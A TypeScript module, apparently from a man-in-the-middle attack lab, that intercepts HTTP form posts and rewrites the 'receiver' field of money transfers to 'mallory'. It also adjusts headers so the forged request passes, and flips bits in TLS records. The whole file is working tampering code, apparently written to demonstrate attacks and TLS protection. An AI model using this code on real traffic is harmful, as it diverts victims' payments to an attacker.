import type { IContext } from 'http-mitm-proxy';

import type { Attack, Scene } from './attack.ts';
import { flipBits } from './bit-flip.ts';
import { dropHeader } from '../interceptor/exchange-reader.ts';
import { rewriteBody } from '../leash/rewrite-body.ts';

/** The field that decides where money goes, and whom the attacker would have there. */
const FIELD = 'receiver';
const RECEIVER = 'mallory';

/**
 * Changes a transfer on its way. In clear, the form's receiver becomes the attacker, always. In TLS the
 * attacker cannot tell what it changes: once armed, it flips one bit in the next record that is large
 * enough for a request. A real attacker would go by the time and the size of records; the lab says when.
 */
export function openTamper(): Attack {
  let armed = false;
  const wanted = (): boolean => {
    const now = armed;
    armed = false;
    return now;
  };
  return {
    tls: 'tunnel',
    arm: () => {
      armed = true;
    },
    request: (exchange, scene) => {
      const { headers, method } = exchange.clientToProxyRequest;
      if (method !== 'POST' || !FORM.test(headers['content-type'] ?? '')) return;
      // The form that was waited for came in clear: no record is left to change.
      armed = false;
      redirectMoney(exchange, scene);
    },
    tunnel: ({ report }) =>
      flipBits(wanted, (flip) => report({ type: 'bytes-tampered', direction: 'to-bank', ...flip })),
  };
}

const FORM = /^application\/x-www-form-urlencoded\b/i;
const RECEIVER_FIELD = new RegExp(`(?<=^|&)${FIELD}=[^&]*`, 'g');

function redirectMoney(exchange: IContext, { report }: Scene): void {
  // What waits for a "100 Continue" has its head on the way already; Node has told the victim to go on.
  const headers = exchange.proxyToServerRequestOptions?.headers;
  if (headers !== undefined) dropHeader(headers, 'expect');
  exchange.addRequestFilter(
    rewriteBody((text) => {
      const before = new URLSearchParams(text).get(FIELD);
      const changed = text.replaceAll(RECEIVER_FIELD, `${FIELD}=${RECEIVER}`);
      if (before === null || changed === text) return text;
      // The head leaves with the body's first byte, and a body in chunks states no length.
      const request = exchange.proxyToServerRequest;
      if (request?.hasHeader('content-length') === true) request.setHeader('Content-Length', changed.length);
      report({ type: 'form-tampered', field: FIELD, before, after: RECEIVER });
      return changed;
    }),
  );
}
